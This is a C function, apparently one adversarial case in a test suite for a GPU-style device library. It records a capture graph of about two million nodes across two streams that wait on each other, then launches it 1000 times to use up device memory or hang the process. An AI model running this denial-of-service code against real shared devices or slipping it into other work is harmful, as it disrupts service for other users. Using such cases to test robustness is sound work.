/* Tries to use up the memory of the device process by a graph of millions of nodes, each waiting for all others.
 * Gains a device process that is killed or computes for ever. */
static lab_status attack(attack_honest *honest, void *arguments, size_t bytes, float *out, const float *in, int count)
{
    lab_stream *stream, *other;
    lab_event *event;
    lab_array *array;
    lab_graph *graph;
    lab_graph_exec *exec;
    LAB_TRY(lab_stream_create(&stream, LAB_STREAM_NON_BLOCKING));
    LAB_TRY(lab_stream_create(&other, LAB_STREAM_NON_BLOCKING));
    LAB_TRY(lab_event_create(&event, LAB_EVENT_DISABLE_TIMING));
    LAB_TRY(lab_array_zeros(&array, LAB_FLOAT32, LAB_SHAPE(8)));
    LAB_TRY(lab_device_synchronize());
    LAB_TRY(lab_stream_begin_capture(stream, LAB_CAPTURE_RELAXED));
    for (int i = 0; i < 2000000; i++) {
        if (lab_array_fill(array, LAB_ARG(1.0f), i % 2 ? stream : other)) break;
        if (lab_event_record(event, i % 2 ? stream : other)) break;
        if (lab_stream_wait_event(i % 2 ? other : stream, event)) break;
    }
    lab_event_record(event, other);
    lab_stream_wait_event(stream, event);
    LAB_TRY(lab_stream_end_capture(&graph, stream));
    LAB_TRY(lab_graph_instantiate(&exec, graph));
    for (int i = 0; i < 1000; i++) LAB_TRY(lab_graph_launch(exec, stream));
    return lab_stream_synchronize(stream);
}
